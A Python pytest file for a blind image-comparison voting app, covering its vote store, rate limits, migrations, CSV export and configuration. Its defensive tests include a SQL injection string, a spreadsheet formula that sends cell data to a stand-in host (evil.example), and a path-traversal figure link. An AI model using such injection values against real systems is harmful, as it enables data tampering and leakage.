"""Vote store, blind-pair bookkeeping (Studio with a stand-in pipeline), per-image checks, CSV
export, suites, report, sync export, config."""

import csv
import dataclasses
import json
import sqlite3
import threading
import time
from pathlib import Path

import pytest
from PIL import Image

from surlib.pipeline import Generation
from surlib.studio.markdown import md_escape
from surlib.studio.prompts import BUILTIN_PROMPTS, example_prompts, load_suites, vote_pool
from surlib.studio.report import NO_REPORT, latest_report, report_page
from surlib.studio.checks import CheckStore, ChecksStored, NotVotedYet, parse_checks
from surlib.studio.export import CHECK_COLUMNS, CsvExport, escape_cell, write_csv
from surlib.studio.settings import AppConfig, ConfigError, default_data_dir
from surlib.studio.studio import Studio
from surlib.studio.survey import DEFAULT_INSTRUCTIONS, load_instructions
from surlib.studio.sync import VoteExporter, start_sync
from surlib.studio.votes import (
    AlreadyVoted,
    BadChoice,
    Battle,
    BattleExpired,
    RateLimited,
    UnknownBattle,
    VoteStore,
    WrongSession,
    check_choice,
    new_battle_id,
)


def _battle(session="s1", side="left", created_at=None, **kw):
    left, right = ("m:sur-adapter", "m:baseline") if side == "left" else ("m:baseline", "m:sur-adapter")
    return Battle(battle_id=new_battle_id(), created_at=time.time() if created_at is None else created_at,
                  session=session, prompt="two red cats", seed=7, left_system=left, right_system=right,
                  adapter_side=side, prompt_id="toy:1", suite="toy", category="count", steps=4,
                  guidance=5.0, preset="m", base_model="base", adapter_id="ada", **kw)


@pytest.fixture
def store(tmp_path):
    s = VoteStore(tmp_path / "votes.sqlite")
    yield s
    s.close()


# ----------------------------------------------------------------------------- the store
def test_schema_wal_and_sync(store):
    conn = sqlite3.connect(store.path)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert conn.execute("PRAGMA user_version").fetchone()[0] == 2
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    assert {"battles", "votes", "checks"} <= tables
    assert store._conn().execute("PRAGMA synchronous").fetchone()[0] == 1  # NORMAL (WAL)
    full = VoteStore(store.path, synchronous="FULL")
    assert full._conn().execute("PRAGMA synchronous").fetchone()[0] == 2
    full.close()
    conn.close()


def test_vote_round_trip_keeps_everything(store):
    b = store.add_battle(_battle(side="right", created_at=time.time() - 3.0))
    v = store.record_vote(b.battle_id, "right", "s1")
    assert v["id"] == 1 and v["adapter_side"] == "right" and v["winner"] == "m:sur-adapter"
    assert 2.5 < v["time_to_vote_s"] < 60
    row = store.get_vote(b.battle_id)
    for key in ("prompt", "prompt_id", "category", "seed", "base_model", "adapter_id", "adapter_side",
                "choice", "session", "ts", "created_at", "time_to_vote_s", "left_system", "right_system"):
        assert row[key] == v[key], key
    assert row["created_at"].endswith("+00:00")
    assert store.vote_count() == 1 and store.vote_count("m") == 1 and store.vote_count("other") == 0
    assert store.presets() == ["m"]


@pytest.mark.parametrize("choice,winner", [("left", "m:sur-adapter"), ("right", "m:baseline"),
                                           ("tie", "tie"), ("both_bad", "both_bad")])
def test_choices(store, choice, winner):
    b = store.add_battle(_battle())
    assert store.record_vote(b.battle_id, choice, "s1")["winner"] == winner


def test_one_vote_per_pair(store):
    b = store.add_battle(_battle())
    store.record_vote(b.battle_id, "left", "s1")
    with pytest.raises(AlreadyVoted, match="one vote per pair"):
        store.record_vote(b.battle_id, "right", "s1")
    assert store.vote_count() == 1 and store.get_vote(b.battle_id)["choice"] == "left"
    # the UNIQUE constraint holds even if the check were bypassed
    with pytest.raises(sqlite3.IntegrityError):
        store._conn().execute("INSERT INTO votes (battle_id, ts, created_at, session, prompt, seed, left_system,"
                              " right_system, choice, winner) SELECT battle_id, 0, '', session, prompt, seed,"
                              " left_system, right_system, 'tie', 'tie' FROM battles")


def test_refusals_name_the_problem(store):
    b = store.add_battle(_battle())
    with pytest.raises(UnknownBattle, match="unknown pair"):
        store.record_vote(new_battle_id(), "left", "s1")
    with pytest.raises(UnknownBattle, match="unknown pair"):
        store.record_vote("'; DROP TABLE votes; --", "left", "s1")
    with pytest.raises(UnknownBattle):
        store.record_vote(None, "left", "s1")
    with pytest.raises(BadChoice, match="choice must be one of"):
        store.record_vote(b.battle_id, "middle", "s1")
    with pytest.raises(WrongSession, match="another voter"):
        store.record_vote(b.battle_id, "left", "s2")
    old = store.add_battle(_battle(created_at=time.time() - 2 * 86400))
    with pytest.raises(BattleExpired, match="expired"):
        store.record_vote(old.battle_id, "left", "s1")
    assert store.vote_count() == 0
    assert store.get_battle(b.battle_id).adapter_side == "left"  # nothing was changed


def test_rate_limits_per_minute_and_day(tmp_path):
    store = VoteStore(tmp_path / "v.sqlite", votes_per_minute=3, votes_per_day=5)
    t0 = time.time()
    battles = [store.add_battle(_battle(created_at=t0)) for _ in range(7)]
    for i in range(3):
        store.record_vote(battles[i].battle_id, "tie", "s1", now=t0 + i)
    with pytest.raises(RateLimited, match="3 per minute per voter"):
        store.record_vote(battles[3].battle_id, "tie", "s1", now=t0 + 3)
    other = store.add_battle(_battle(session="s2", created_at=t0))
    store.record_vote(other.battle_id, "tie", "s2", now=t0 + 3)  # limits are per session
    store.record_vote(battles[3].battle_id, "tie", "s1", now=t0 + 61)
    store.record_vote(battles[4].battle_id, "tie", "s1", now=t0 + 62)
    with pytest.raises(RateLimited, match="5 votes per 24 hours"):
        store.record_vote(battles[5].battle_id, "tie", "s1", now=t0 + 200)
    assert store.vote_count() == 6
    store.close()


def test_threads_share_a_store(store):
    battles = [store.add_battle(_battle(session=f"s{i % 4}")) for i in range(80)]
    errors = []

    def worker(k):
        try:
            for b in battles[k::4]:
                store.record_vote(b.battle_id, "left", b.session)
        except Exception as e:  # pragma: no cover - reported below
            errors.append(e)

    threads = [threading.Thread(target=worker, args=(k,)) for k in range(4)]
    [t.start() for t in threads]
    [t.join() for t in threads]
    assert not errors and store.vote_count() == 80


def test_pair_limits_per_voter_and_window(tmp_path):
    store = VoteStore(tmp_path / "v.sqlite", pairs_per_minute=2, pairs_per_day=3)
    t0 = time.time()
    store.add_battle(_battle(created_at=t0 - 30))
    store.add_battle(_battle(created_at=t0 - 10))
    with pytest.raises(RateLimited, match="at most 2 per minute per voter"):
        store.check_pair_rate("s1", now=t0)
    with pytest.raises(RateLimited, match="at most 2 per minute per voter"):
        store.add_battle(_battle(created_at=t0))  # the insert itself is limited too (no race)
    store.add_battle(_battle(session="s2", created_at=t0))  # another voter
    store.add_battle(_battle(created_at=t0 + 61))
    with pytest.raises(RateLimited, match="at most 3 per 24 hours per voter"):
        store.add_battle(_battle(created_at=t0 + 200))
    n = store._conn().execute("SELECT COUNT(*) FROM battles WHERE session = 's1'").fetchone()[0]
    assert n == 3
    store.close()


V1_SCHEMA = """
CREATE TABLE battles (battle_id TEXT PRIMARY KEY, created_at REAL NOT NULL, session TEXT NOT NULL,
    prompt TEXT NOT NULL, prompt_id TEXT, suite TEXT, category TEXT, seed INTEGER NOT NULL, steps INTEGER,
    guidance REAL, negative_prompt TEXT, preset TEXT, base_model TEXT, adapter_id TEXT,
    left_system TEXT NOT NULL, right_system TEXT NOT NULL,
    adapter_side TEXT CHECK (adapter_side IN ('left', 'right')));
CREATE TABLE votes (id INTEGER PRIMARY KEY AUTOINCREMENT,
    battle_id TEXT NOT NULL UNIQUE REFERENCES battles(battle_id), ts REAL NOT NULL, created_at TEXT NOT NULL,
    session TEXT NOT NULL, prompt TEXT NOT NULL, prompt_id TEXT, suite TEXT, category TEXT,
    seed INTEGER NOT NULL, steps INTEGER, guidance REAL, preset TEXT, base_model TEXT, adapter_id TEXT,
    left_system TEXT NOT NULL, right_system TEXT NOT NULL, adapter_side TEXT, choice TEXT NOT NULL,
    winner TEXT NOT NULL, time_to_vote_s REAL);
CREATE INDEX votes_session_ts ON votes(session, ts);
CREATE INDEX votes_preset ON votes(preset);
INSERT INTO battles VALUES ('old-pair-000000000000000', 1.0, 's-old', 'two cats', 't:1', 'toy', 'counting', 3,
    4, 5.0, NULL, 'm', 'base', 'ada', 'm:baseline', 'm:sur-adapter', 'right');
INSERT INTO votes (battle_id, ts, created_at, session, prompt, seed, left_system, right_system, adapter_side,
    choice, winner, preset) VALUES ('old-pair-000000000000000', 2.0, '1970', 's-old', 'two cats', 3,
    'm:baseline', 'm:sur-adapter', 'right', 'right', 'm:sur-adapter', 'm');
PRAGMA user_version = 1;
"""


def test_a_version_1_database_is_migrated_and_keeps_its_votes(tmp_path):
    db = tmp_path / "old.sqlite"
    with sqlite3.connect(db) as conn:
        conn.executescript(V1_SCHEMA)
    store = VoteStore(db)
    assert store._conn().execute("PRAGMA user_version").fetchone()[0] == 2
    old = store.get_vote("old-pair-000000000000000")
    assert old["choice"] == "right" and old["winner"] == "m:sur-adapter" and store.vote_count() == 1
    b = store.add_battle(_battle())  # the new schema works on the old file
    store.record_vote(b.battle_id, "left", "s1")
    CheckStore(store).record(b.battle_id, "s1", {"left": {"count": "yes"}})
    assert store.vote_count() == 2 and len(CheckStore(store).rows()) == 1
    store.close()
    reopened = VoteStore(db)  # and opening it again changes nothing
    assert reopened.vote_count() == 2 and reopened._conn().execute("PRAGMA user_version").fetchone()[0] == 2
    reopened.close()


def test_only_the_four_choices_are_accepted(store):
    assert [check_choice(c) for c in ("left", "right", "tie", "both_bad")] == ["left", "right", "tie", "both_bad"]
    b = store.add_battle(_battle())
    for other in ("LEFT", "both-bad", "Both bad", "a", " left", None, 1):
        with pytest.raises(BadChoice, match="choice must be one of left, right, tie, both_bad"):
            store.record_vote(b.battle_id, other, "s1")
    assert store.vote_count() == 0


def test_csv_export(store, tmp_path):
    checks = CheckStore(store)
    for side in ("left", "right"):
        b = checks.add_battle(_battle(side=side), judge={"left": {"count": True}, "right": {"count": False}})
        store.record_vote(b.battle_id, "left", "s1")
    checks.record(b.battle_id, "s1", {"right": {"color": "unsure"}})
    path = write_csv(tmp_path / "out" / "votes.csv", store.votes(), checks.rows())
    rows = list(csv.DictReader(open(path)))
    assert len(rows) == 2 and rows[0]["adapter_side"] == "left" and rows[1]["winner"] == "m:baseline"
    # first pair: adapter left (judged right), baseline right (judged wrong); second the other way
    assert (rows[0]["judge_adapter_count"], rows[0]["judge_baseline_count"]) == ("yes", "no")
    assert (rows[1]["judge_baseline_count"], rows[1]["judge_adapter_count"]) == ("yes", "no")
    assert rows[1]["human_adapter_color"] == "unsure" and rows[0]["human_adapter_color"] == ""
    assert set(CHECK_COLUMNS) <= set(rows[0]) and not list(path.parent.glob("*.tmp"))


def test_csv_cells_that_spreadsheets_run_are_escaped(store, tmp_path):
    prompt = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for text in (prompt, "+1 cat", "-2 cats", "@SUM(A1)", "\tcat", "\rcat", "two cats"):
        b = store.add_battle(dataclasses.replace(_battle(), prompt=text))
        store.record_vote(b.battle_id, "tie", "s1")
    path = write_csv(tmp_path / "votes.csv", store.votes())
    prompts = [r["prompt"] for r in csv.DictReader(open(path, newline=""))]
    assert prompts == ["'" + prompt, "'+1 cat", "'-2 cats", "'@SUM(A1)", "'\tcat", "'\rcat", "two cats"]
    assert escape_cell(-1.5) == -1.5 and escape_cell(None) is None  # numbers stay numbers


def test_export_is_one_file_rewritten_only_when_votes_change(store, tmp_path):
    export = CsvExport(store.path, root=tmp_path / "exports")
    b = store.add_battle(_battle())
    store.record_vote(b.battle_id, "left", "s1")
    first = export.export("m", store.version("m"), store.votes, ())
    stat = first.stat()
    for _ in range(20):
        assert export.export("m", store.version("m"), lambda: pytest.fail("rewritten"), ()) == first
    assert first.stat().st_mtime_ns == stat.st_mtime_ns and first.stat().st_ino == stat.st_ino
    b2 = store.add_battle(_battle())
    store.record_vote(b2.battle_id, "right", "s1")
    again = export.export("m", store.version("m"), store.votes, ())
    assert again == first and len(list(csv.DictReader(open(again)))) == 2
    assert [p.name for p in export.folder.iterdir()] == ["sur-votes-m.csv"]


def test_a_slow_results_call_cannot_write_its_older_csv_over_a_newer_one(store, tmp_path):
    """Two Results calls: the first has read the votes, a vote comes in, the second starts; the
    CSV left on disk has the new vote (the calls take turns, the later one reads after it)."""
    from surlib.studio.tally import Tally

    tally = Tally(store, CheckStore(store), CsvExport(store.path, root=tmp_path / "exports"))
    store.record_vote(store.add_battle(_battle()).battle_id, "left", "s1")
    read, release = threading.Event(), threading.Event()
    real_votes = store.votes

    def slow_votes(preset=None):
        rows = real_votes(preset)
        if threading.current_thread().name == "slow":
            read.set()
            release.wait(10)
        return rows

    store.votes = slow_votes
    slow = threading.Thread(target=tally.summary, args=(None,), name="slow")
    slow.start()
    assert read.wait(10)
    late = store.add_battle(_battle())
    store.record_vote(late.battle_id, "right", "s1")
    fresh = threading.Thread(target=tally.summary, args=(None,), name="fresh")
    fresh.start()
    time.sleep(0.3)  # without the turn-taking the fresh call writes now, and the slow one after it
    release.set()
    slow.join(10), fresh.join(10)
    rows = list(csv.DictReader(open(tally.export.path(None), newline="")))
    assert [r["battle_id"] for r in rows][-1] == late.battle_id and len(rows) == 2


# ----------------------------------------------------------------------------- per-image checks
def test_checks_only_by_the_voter_after_the_vote_once(store):
    checks = CheckStore(store)
    b = checks.add_battle(_battle(side="right"), judge={"left": {"count": True, "color": False}})
    assert [(r["source"], r["side"], r["system"], r["attribute"], r["verdict"]) for r in checks.of_battle(b.battle_id)] \
        == [("judge", "left", "m:baseline", "color", "no"), ("judge", "left", "m:baseline", "count", "yes")]
    answers = {"left": {"count": "yes", "action": "unsure"}, "right": {"color": "no"}}
    with pytest.raises(NotVotedYet, match="vote on this pair first"):
        checks.record(b.battle_id, "s1", answers)
    store.record_vote(b.battle_id, "left", "s1")
    with pytest.raises(WrongSession, match="another voter"):
        checks.record(b.battle_id, "s2", answers)
    with pytest.raises(UnknownBattle, match="unknown pair id"):
        checks.record(new_battle_id(), "s1", answers)
    rows = checks.record(b.battle_id, "s1", answers)
    assert {(r["side"], r["system"], r["attribute"], r["verdict"]) for r in rows} == {
        ("left", "m:baseline", "count", "yes"), ("left", "m:baseline", "action", "unsure"),
        ("right", "m:sur-adapter", "color", "no")}
    with pytest.raises(ChecksStored, match="once per pair"):
        checks.record(b.battle_id, "s1", {"left": {"count": "no"}})
    human = [r for r in checks.rows("m") if r["source"] == "human"]
    assert len(human) == 3 and human[0]["category"] == "count" and checks.rows("other") == []


def test_parse_checks_names_the_field_and_the_answers():
    assert parse_checks({"left_count": "Yes ", "right_action": "unsure", "left_color": "", "right_color": None}) == \
        {"left": {"count": "yes"}, "right": {"action": "unsure"}}
    with pytest.raises(ValueError, match="left_color must be one of yes, no, unsure \\(or empty for no answer\\); "
                                         "got 'maybe'"):
        parse_checks({"left_color": "maybe"})
    with pytest.raises(ValueError, match="no check answered: give at least one of left_count"):
        parse_checks({"left_count": None})




# ----------------------------------------------------------------------------- the studio
class FakePipe:
    """Stands in for SURPipeline: baseline is all red, adapter all blue; remembers calls."""

    def __init__(self):
        self.calls = []

    def generate_pair(self, prompt, seed=0, steps=25, guidance=7.5, negative_prompt=None):
        self.calls.append((prompt, seed, steps, guidance, negative_prompt))
        return Generation(images={"baseline": Image.new("RGB", (8, 8), (255, 0, 0)),
                                  "adapter": Image.new("RGB", (8, 8), (0, 0, 255))},
                          prompt=prompt, seed=seed, steps=steps, guidance=guidance,
                          negative_prompt=negative_prompt, timings={"total_s": 0.01})

    def set_progress_bar_config(self, **kw):
        pass


def _config(tmp_path, **kw):
    kw.setdefault("suites_dir", tmp_path / "no-suites")
    return AppConfig(preset="tiny", data_dir=tmp_path / "data", runs_dir=tmp_path / "runs",
                     session_salt="test-salt", **kw)


@pytest.fixture
def studio(tmp_path):
    cfg = _config(tmp_path, pairs_per_minute=1000)
    pipe = FakePipe()
    s = Studio.from_config(cfg, pipe=pipe)
    s.fake = pipe
    yield s
    s.store.close()


def test_studio_compare_validates(studio):
    gen = studio.compare("two cats", "", 3, 2, 4.0)
    assert gen.images["baseline"].getpixel((0, 0)) == (255, 0, 0)
    assert studio.fake.calls[-1] == ("two cats", 3, 2, 4.0, None)
    gen.timings["wall_s"] = 1.2345
    assert studio.timing_markdown(gen) == ("Generated both images in **1.23 s** (one batched pass, seed 3, "
                                           "2 steps, guidance 4).")
    gen.nsfw = {"baseline": False, "adapter": True}
    assert studio.timing_markdown(gen).endswith(" The safety checker blanked: adapter.")
    for args, msg in [(("", None, 1, 2, 4.0), "prompt"), (("x" * 501, None, 1, 2, 4.0), "at most 500"),
                      (("a", None, "abc", 2, 4.0), "seed"), (("a", None, -1, 2, 4.0), "seed"),
                      (("a", None, None, 2, 4.0), "seed"), (("a", None, 1.5, 2, 4.0), "seed"),
                      (("a", None, 1, 0, 4.0), "steps"), (("a", None, 1, 51, 4.0), "steps"),
                      (("a", None, 1, 2, "x"), "guidance"), (("a", None, 1, 2, float("nan")), "guidance"),
                      (("a", None, 1, 2, 51), "guidance"), (("a", 5, 1, 2, 4.0), "negative")]:
        with pytest.raises(ValueError, match=msg):
            studio.compare(*args)


def test_battles_are_blind_random_and_consistent(studio):
    sides = []
    for _ in range(40):
        left, right, public = studio.new_battle("", "sess-A")
        assert set(public) == {"battle_id", "prompt", "category", "suite"}  # no side, no seed
        battle = studio.store.get_battle(public["battle_id"])
        adapter_img = left if battle.adapter_side == "left" else right
        baseline_img = right if battle.adapter_side == "left" else left
        assert adapter_img.getpixel((0, 0)) == (0, 0, 255) and baseline_img.getpixel((0, 0)) == (255, 0, 0)
        assert battle.session == "sess-A"  # the voter key the app derived (identity.py)
        assert battle.prompt in BUILTIN_PROMPTS and battle.prompt_id.startswith("builtin:")
        sides.append(battle.adapter_side)
    assert 8 <= sides.count("left") <= 32  # p(fail) < 1e-4 for a fair coin
    seeds = {c[1] for c in studio.fake.calls}
    assert len(seeds) == 40  # a fresh seed each time
    assert {c[2] for c in studio.fake.calls} == {studio.default_steps}


def test_studio_vote_reveals_after_storing(studio):
    _, _, public = studio.new_battle("  my own prompt ", "sess-A")
    battle = studio.store.get_battle(public["battle_id"])
    assert battle.prompt == "my own prompt" and battle.prompt_id is None
    with pytest.raises(WrongSession, match="another voter"):
        studio.vote(public["battle_id"], "left", "sess-B")
    reveal = studio.vote(public["battle_id"], "left", "sess-A")
    assert reveal["adapter_side"] == battle.adapter_side and reveal["seed"] == battle.seed
    assert "session" not in reveal
    md = studio.reveal_markdown(reveal)
    assert "SUR-adapter" in md and "baseline" in md
    with pytest.raises(AlreadyVoted):
        studio.vote(public["battle_id"], "tie", "sess-A")
    with pytest.raises(ValueError, match="at most 500"):
        studio.new_battle("y" * 501, "sess-A")


def test_studio_results_and_csv(studio):
    for choice in ("left", "right", "tie", "left"):
        _, _, public = studio.new_battle("", "s")
        studio.vote(public["battle_id"], choice, "s")
    res = studio.results("tiny", bt_rounds=10)
    assert res["overall"]["votes"] == 4 and res["overall"]["ties"] == 1
    assert len(Path(res["csv"]).read_text().strip().splitlines()) == 5
    assert studio.results("all", bt_rounds=10)["total_votes"] == 4
    assert studio.results("sd15", bt_rounds=10)["total_votes"] == 0
    assert studio.result_presets()[0] == "all" and "tiny" in studio.result_presets()


def test_pair_limit_is_checked_before_generating(tmp_path):
    pipe = FakePipe()
    s = Studio.from_config(_config(tmp_path, pairs_per_minute=2), pipe=pipe)
    s.new_battle("", "v1")
    s.new_battle("", "v1")
    with pytest.raises(RateLimited, match="too many new pairs: at most 2 per minute per voter"):
        s.new_battle("", "v1")
    assert len(s.store.read("SELECT * FROM battles")) == len(pipe.calls) == 2  # refused before generating
    s.new_battle("", "v2")  # another voter still gets one
    s.store.close()


def test_survey_mode_gives_a_receipt_and_draws_its_own_prompts(tmp_path):
    s = Studio.from_config(_config(tmp_path, mode="survey"), pipe=FakePipe())
    with pytest.raises(ValueError, match="this survey draws its prompts from its suites"):
        s.new_battle("my own words", "v1")
    _, _, public = s.new_battle("", "v1")
    receipt = s.vote(public["battle_id"], "left", "v1")
    assert set(receipt) == {"battle_id", "choice", "created_at"}  # no side, no system, no seed
    assert "left was" not in s.reveal_markdown(receipt).lower() and "vote stored" in s.reveal_markdown(receipt)
    assert s.store.get_vote(public["battle_id"])["adapter_side"] in ("left", "right")  # stored all the same
    s.store.close()


def test_the_toy_judge_checks_both_images_of_a_parsed_prompt(tmp_path):
    from surlib.studio.pair_judge import PairJudge

    class Judge:  # reads every image as three red robots jumping
        def judge(self, images):
            return [{"count": 3, "color": "red", "action": "jumping", "kind": "robot"} for _ in images]

    s = Studio.from_config(_config(tmp_path), pipe=FakePipe())
    s.judge = PairJudge(Judge(), lambda p: {"count": 3, "color": "blue", "action": "jumping"} if "robots" in p else None)
    _, _, public = s.new_battle("three blue robots jumping", "v1")
    rows = s.checks.of_battle(public["battle_id"])
    assert {(r["side"], r["attribute"], r["verdict"]) for r in rows} == {
        (side, a, v) for side in ("left", "right") for a, v in (("count", "yes"), ("color", "no"), ("action", "yes"))}
    _, _, other = s.new_battle("a cat", "v1")
    assert s.checks.of_battle(other["battle_id"]) == []  # no scene, no verdicts
    s.vote(public["battle_id"], "left", "v1")
    s.record_checks(public["battle_id"], "v1", left_count="yes", left_color="yes", right_color="no")
    res = s.results("tiny", bt_rounds=5)
    color = {(r["attribute"], r["variant"]): r for r in res["checks"]}
    battle = s.store.get_battle(public["battle_id"])
    left_variant = "adapter" if battle.adapter_side == "left" else "baseline"
    c = color[("color", left_variant)]
    assert (c["human_yes"], c["human_no"], c["judge_n"], c["judge_accuracy"], c["both"], c["agree"]) == (1, 0, 1, 0.0, 1, 0)
    assert color[("all", "all")]["both"] == 3 and color[("all", "all")]["agree"] == 2
    s.store.close()


def test_the_real_toy_judge_reads_toy_suite_prompts():
    from surlib.studio.pair_judge import PairJudge, toy_expectation
    from surlib.toy.judge import DEFAULT_WEIGHTS

    assert toy_expectation("four golden yellow robots standing up straight on a lawn") == \
        {"count": 4, "color": "yellow", "action": "standing"}
    assert toy_expectation("two red cats") is None  # no action: the grammar cannot read it
    if not DEFAULT_WEIGHTS.exists():
        pytest.skip("no toy judge weights")
    judge = PairJudge.for_setting("auto", "toy")
    assert PairJudge.for_setting("auto", "sd15") is None and PairJudge.for_setting("off", "toy") is None
    from surlib.toy.render import render
    from surlib.toy.scene import Scene

    right = render(Scene(4, "yellow", "robot", "standing", "grass"), 0)
    wrong = render(Scene(2, "red", "cat", "lying", "white"), 0)
    v = judge.verdicts("four golden yellow robots standing up straight on a lawn", {"left": right, "right": wrong})
    assert v == {"left": {"count": True, "color": True, "action": True},
                 "right": {"count": False, "color": False, "action": False}}


def test_exporter_failure_never_fails_a_vote(studio):
    class Broken:
        def submit(self, vote):
            raise RuntimeError("hub down")

    studio.exporter = Broken()
    _, _, public = studio.new_battle("", "s")
    assert studio.vote(public["battle_id"], "left", "s")["choice"] == "left"
    assert studio.store.vote_count() == 1


# ----------------------------------------------------------------------------- suites and report
def test_suites_tolerant_loading_and_pool(tmp_path):
    assert load_suites(tmp_path / "missing") == {}
    d = tmp_path / "suites"
    d.mkdir()
    (d / "toy.jsonl").write_text("\n".join([
        json.dumps({"id": "t1", "simple": "two red cats", "prompt": "a long detailed prompt", "category": "count"}),
        "not json",
        json.dumps({"id": "t2", "prompt": "a robot waving", "category": "action"}),
        json.dumps({"id": "t3", "category": "color"}),
        json.dumps(["a list"]),
        "",
    ]))
    (d / "general.jsonl").write_text(json.dumps({"prompt": "a dog on a sofa"}) + "\n")
    suites = load_suites(d)
    assert [p.prompt for p in suites["toy"]] == ["two red cats", "a robot waving"]
    assert suites["toy"][0].category == "count" and suites["general"][0].prompt_id == "general:1"
    assert [p.suite for p in vote_pool(suites, "toy")] == ["toy", "toy"]
    assert [p.prompt for p in vote_pool(suites, "sd15")] == ["a dog on a sofa"]
    assert [p.prompt for p in vote_pool(suites, "sd15", ["toy"])] == ["two red cats", "a robot waving"]
    assert len(vote_pool({}, "toy")) == len(BUILTIN_PROMPTS)
    assert example_prompts(vote_pool(suites, "toy"), 1) == ["two red cats"]
    assert set(example_prompts(vote_pool(suites, "toy"), 8)) == {"two red cats", "a robot waving"}


def test_latest_report(tmp_path):
    runs = tmp_path / "runs"
    assert latest_report(runs) is None
    (runs / "old").mkdir(parents=True)
    (runs / "old" / "report.md").write_text("# old")
    time.sleep(0.02)
    new = runs / "toy"
    (new / "figs").mkdir(parents=True)
    Image.new("RGB", (4, 4)).save(new / "figs" / "b.png")
    Image.new("RGB", (4, 4)).save(new / "a.png")
    (new / "report.md").write_text("# toy\n\n![win rates](figs/b.png)\n\n![escape](../../etc.png)\n")
    rep = latest_report(runs)
    assert rep.path == new / "report.md"
    assert [f.name for f in rep.figures] == ["b.png", "a.png"]  # referenced first
    assert "![" not in rep.markdown and "figure: win rates" in rep.markdown
    assert "eval.run" in NO_REPORT
    (new / "broken.png").write_text("not a png")
    text, figures = report_page(runs)
    assert text.startswith(f"*Report: `{new / 'report.md'}`*") and "figure: win rates" in text
    assert [name for _, name in figures] == ["b.png", "a.png"]  # the unreadable one is left out
    assert figures[0][0].mode == "RGB" and figures[0][0].size == (4, 4)
    assert report_page(tmp_path / "none") == (NO_REPORT, [])


# ----------------------------------------------------------------------------- export and config
class RecordingLock:
    def __init__(self):
        self.held = False
        self.entries = 0

    def __enter__(self):
        self.held = True
        self.entries += 1

    def __exit__(self, *exc):
        self.held = False


def test_exporter_appends_jsonl_under_the_lock(tmp_path):
    lock = RecordingLock()
    exp = VoteExporter(tmp_path / "export", lock=lock)
    for i in range(3):
        exp.submit({"battle_id": f"b{i}", "choice": "left", "session": "h", "secret": "x"})
    assert exp.flush(5)
    lines = exp.path.read_text().splitlines()
    assert [json.loads(x)["battle_id"] for x in lines] == ["b0", "b1", "b2"]
    assert "secret" not in lines[0]  # only the export fields leave
    assert lock.entries == 3 and not lock.held
    assert exp.path.name.startswith("votes-") and exp.path.suffix == ".jsonl"
    exp.close()


def test_exporter_write_errors_are_logged_not_raised(tmp_path, caplog):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    exp = VoteExporter(blocker / "sub", lock=RecordingLock())  # cannot mkdir under a file
    exp.submit({"battle_id": "b"})
    assert exp.flush(5)
    assert "vote export failed" in caplog.text
    exp.close()


def test_sync_off_by_default(tmp_path):
    assert start_sync(_config(tmp_path)) is None
    assert start_sync(_config(tmp_path, sync_repo="me/votes")) is None  # no token: off


def test_config_from_env(tmp_path):
    cfg = AppConfig.from_env({"SUR_PRESET": "tiny", "SUR_DATA_DIR": str(tmp_path), "SUR_VOTES_PER_MIN": "5",
                              "SUR_STEPS": "3", "GRADIO_SERVER_PORT": "7999", "SUR_SQLITE_SYNC": "normal"})
    assert cfg.preset == "tiny" and cfg.data_dir == tmp_path and cfg.votes_per_minute == 5
    assert cfg.server_port == 7999 and cfg.server_name == "0.0.0.0" and cfg.sqlite_synchronous == "NORMAL"
    assert cfg.generation_defaults() == (3, 5.0)
    assert AppConfig.from_env({"SUR_PRESET": "tiny"}).server_port == 7860
    assert AppConfig.from_env({"SUR_PRESET": "sd15", "SUR_STEPS": "999"}).generation_defaults()[0] == 50
    with pytest.raises(ConfigError, match="SUR_VOTES_PER_MIN"):
        AppConfig.from_env({"SUR_PRESET": "tiny", "SUR_VOTES_PER_MIN": "many"})
    with pytest.raises(ConfigError, match="SUR_SQLITE_SYNC"):
        AppConfig.from_env({"SUR_PRESET": "tiny", "SUR_SQLITE_SYNC": "OFF"})
    assert "hf_secret" not in repr(AppConfig.from_env({"SUR_PRESET": "tiny", "HF_TOKEN": "hf_secret"}))
    assert default_data_dir({}) in (Path("outputs/sur-studio"), Path("/data/sur-studio"))


def test_survey_integrity_settings(tmp_path):
    base = {"SUR_PRESET": "tiny", "SUR_DATA_DIR": str(tmp_path)}
    cfg = AppConfig.from_env(base)
    assert (cfg.mode, cfg.survey, cfg.reveal_sides, cfg.oauth, cfg.trusted_proxies, cfg.judge) == \
        ("studio", False, True, False, "", "auto")
    assert (cfg.pairs_per_minute, cfg.pairs_per_day) == (30, 2000) and not cfg.proxy_trust.enabled
    assert cfg.delete_cache == (600, 3600)
    survey = AppConfig.from_env({**base, "SUR_MODE": "Survey", "SUR_PAIRS_PER_MIN": "4", "SUR_CACHE_MAX_AGE_S": "120"})
    assert survey.survey and not survey.reveal_sides and survey.pairs_per_minute == 4 and survey.delete_cache == (120, 120)
    assert AppConfig.from_env({**base, "SUR_MODE": "survey", "SUR_REVEAL": "yes"}).reveal_sides
    space = AppConfig.from_env({**base, "SPACE_ID": "me/studio", "OAUTH_CLIENT_ID": "x"})
    assert space.proxy_trust.hops == 1 and space.oauth  # Spaces: one proxy hop; hf_oauth sets OAUTH_CLIENT_ID
    assert not AppConfig.from_env({**base, "SPACE_ID": "me/studio"}).oauth
    assert AppConfig.from_env({**base, "SPACE_ID": "me/s", "SUR_TRUSTED_PROXIES": ""}).proxy_trust.enabled is False
    nets = AppConfig.from_env({**base, "SUR_TRUSTED_PROXIES": "10.0.0.0/8, 127.0.0.1"}).proxy_trust
    assert [str(n) for n in nets.networks] == ["10.0.0.0/8", "127.0.0.1/32"]
    for env, message in [({"SUR_MODE": "kiosk"}, "SUR_MODE must be one of studio, survey, got 'kiosk'"),
                         ({"SUR_JUDGE": "vqa"}, "SUR_JUDGE must be one of auto, toy, off, got 'vqa'"),
                         ({"SUR_OAUTH": "maybe"}, "SUR_OAUTH must be 1 or 0"),
                         ({"SUR_TRUSTED_PROXIES": "proxy.local"}, "'proxy.local' is neither"),
                         ({"SUR_TRUSTED_PROXIES": "99"}, "hop count must be between 0 and 16, got 99"),
                         ({"SUR_REQUIRE_LOGIN": "1"}, "SUR_REQUIRE_LOGIN=1 needs SUR_OAUTH=1"),
                         ({"SUR_PAIRS_PER_MIN": "0"}, "SUR_PAIRS_PER_MIN must be at least 1")]:
        with pytest.raises(ConfigError, match=message.replace("(", "\\(").replace(")", "\\)")):
            AppConfig.from_env({**base, **env})


def test_survey_instructions_from_text_or_file(tmp_path):
